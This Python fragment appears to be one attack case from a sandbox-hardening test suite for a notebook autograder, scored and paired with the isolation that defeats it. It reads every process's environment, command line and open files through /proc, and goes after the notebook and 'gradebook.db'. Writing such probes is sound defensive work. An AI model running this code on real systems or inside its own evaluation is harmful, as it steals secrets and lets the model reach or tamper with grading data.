"""Reads what /proc tells of every process: environment, command, working directory, open files, root.

Deserves: 5.
Guard: a pid namespace of its own, whose first process has a minimal environment.
"""

for pid in [name for name in os.listdir("/proc") if name.isdigit()] + ["self"]:
    for name in ("environ", "cmdline", "cwd/attacked.ipynb", "cwd/gradebook.db", "root" + REACH + "/../gradebook.db"):
        try:
            steal(f"/proc/{pid}/{name}", open(f"/proc/{pid}/{name}", "rb").read(1 << 22))
        except OSError:
            pass
    try:
        for link in os.listdir(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{link}"
            if os.path.isfile(path):
                steal(os.readlink(path), open(path, "rb").read(1 << 24))
    except OSError:
        pass
    reach("through-proc-root", f"/proc/{pid}/root")
    reach("through-proc-cwd", f"/proc/{pid}/cwd/../../../..")
